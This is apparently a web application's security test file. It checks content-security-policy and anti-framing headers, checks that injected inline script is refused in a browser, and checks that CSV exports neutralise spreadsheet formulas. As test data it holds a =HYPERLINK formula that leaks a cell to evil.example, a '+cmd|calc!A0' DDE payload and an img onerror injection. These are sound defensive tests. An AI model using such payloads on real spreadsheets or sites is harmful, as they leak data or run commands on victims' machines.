// Attacks on the pages themselves: framing them in another site (clickjacking), running
// injected script in them, and a CSV export whose cells a spreadsheet runs as formulas
// (`=HYPERLINK(…)` in a parameter value or a metric a run wrote).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createApiToken } from '../../db/accounts.ts';
import { parseCsv } from '../../web/previews/csv.ts';
import { launchBrowser } from '../browser/support/browser.ts';
import { seedSeries } from '../browser/support/seed.ts';
import { startWebTestServer, type WebTestServer } from '../browser/support/server.ts';

const EVIL_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")';

describe('pages: headers and CSV exports', () => {
  let server: WebTestServer;
  let token: string;
  let formulas: { id: string; count: number };

  const get = (route: string, signedIn = true) =>
    fetch(`${server.url}${route}`, signedIn ? { headers: { authorization: `Bearer ${token}` } } : {});

  before(async () => {
    server = await startWebTestServer();
    token = (await createApiToken(server.db, server.ids.admin, 'pages')).token;
    formulas = await seedSeries(server.db, {
      ownerId: server.ids.member,
      ini: '[model]\nformula = =1+2 @SUM(A1) -1.5 +cmd|calc!A0\n',
      description: 'formulas in parameters and metrics',
      state: 'completed',
      metrics: (_, i) => ({ note: i === 0 ? EVIL_LINK : '-2+3', delta: -1.5, tabbed: '\t=1+1' }),
    });
  });
  after(() => server?.close());

  test('every HTML page forbids framing and foreign or inline script', async () => {
    const { completed } = server;
    const pages: Array<[string, boolean, number]> = [
      ['/login', false, 200],
      ['/', true, 200],
      ['/series/new', true, 200],
      [`/series/${completed.id}`, true, 200],
      [`/series/${completed.id}/runs/0`, true, 200],
      ['/applications', true, 200],
      ['/hosts', true, 200],
      ['/users', true, 200],
      ['/tokens', true, 200],
      ['/series/no-such-series', true, 404],
      ['/api/v1/docs', false, 200],
    ];
    for (const [route, signedIn, status] of pages) {
      const answer = await get(route, signedIn);
      const html = await answer.text();
      assert.equal(answer.status, status, route);
      assert.match(answer.headers.get('content-type') ?? '', /^text\/html/, route);
      const csp = answer.headers.get('content-security-policy') ?? '';
      assert.match(csp, /(^|; )frame-ancestors 'none'(;|$)/, `${route}: ${csp}`);
      assert.match(csp, /(^|; )script-src 'self'(;|$)/, `${route}: ${csp}`);
      assert.match(csp, /(^|; )object-src 'none'(;|$)/, `${route}: ${csp}`);
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', route);
      assert.equal(answer.headers.get('x-frame-options'), 'DENY', route);
      assert.ok(answer.headers.get('referrer-policy'), `${route}: no Referrer-Policy`);
      // The policy allows no inline script, so the pages must not need any.
      for (const tag of html.match(/<script\b[^>]*>/g) ?? []) assert.match(tag, /\ssrc=/, `${route}: ${tag}`);
      assert.doesNotMatch(html, /\son[a-z]+=/i, `${route}: inline event handler`);
    }
  });

  test('in Chromium, the pages run under the policy without a violation, and injected script is refused', async () => {
    const browser = await launchBrowser();
    try {
      await browser.context.setExtraHTTPHeaders({ authorization: `Bearer ${token}` });
      // Installed by the browser itself, so the page's policy does not apply to this script.
      await browser.context.addInitScript(() => {
        const seen: string[] = [];
        (window as unknown as { violations: string[] }).violations = seen;
        document.addEventListener('securitypolicyviolation', (e) =>
          seen.push(`${e.violatedDirective} ${e.blockedURI}`),
        );
      });
      const page = await browser.newPage();
      for (const route of [
        '/',
        `/series/${server.completed.id}`,
        `/series/${server.completed.id}/runs/0`,
        '/series/new',
      ]) {
        await page.goto(`${server.url}${route}`);
        await page.waitForLoadState('networkidle');
        assert.deepEqual(
          await page.evaluate(() => (window as unknown as { violations: string[] }).violations),
          [],
          route,
        );
      }
      // An HTML injection into the page: its inline handler must not run.
      await page.evaluate(() =>
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/nowhere.png" onerror="document.title=\'owned\'">',
        ),
      );
      await page.waitForFunction(() =>
        (window as unknown as { violations: string[] }).violations.some((v) => v.startsWith('script-src')),
      );
      assert.notEqual(await page.title(), 'owned');
    } finally {
      await browser.close();
    }
  });

  test('the API answers carry a policy too', async () => {
    const answer = await get('/api/v1/series');
    assert.equal(answer.status, 200);
    assert.match(answer.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/);
    await answer.body?.cancel();
  });

  test('a CSV export neutralises formulas in parameters and metrics, and keeps numbers numbers', async () => {
    const answer = await get(`/web-api/series/${formulas.id}/runs.csv`);
    assert.equal(answer.status, 200);
    const rows = parseCsv(await answer.text());
    const header = rows[0]!;
    const column = (name: string) => rows.slice(1).map((r) => r[header.indexOf(name)]);
    assert.deepEqual(column('model.formula'), ["'=1+2", "'@SUM(A1)", '-1.5', "'+cmd|calc!A0"]);
    assert.deepEqual(column('note'), [`'${EVIL_LINK}`, "'-2+3", "'-2+3", "'-2+3"]);
    assert.deepEqual(column('delta'), ['-1.5', '-1.5', '-1.5', '-1.5']);
    assert.deepEqual(column('tabbed'), ["'\t=1+1", "'\t=1+1", "'\t=1+1", "'\t=1+1"]);
    // No cell of the export, as a spreadsheet reads it, starts a formula.
    for (const cell of rows.flat()) assert.ok(!/^[=+@\t\r]/.test(cell), cell);
  });
});
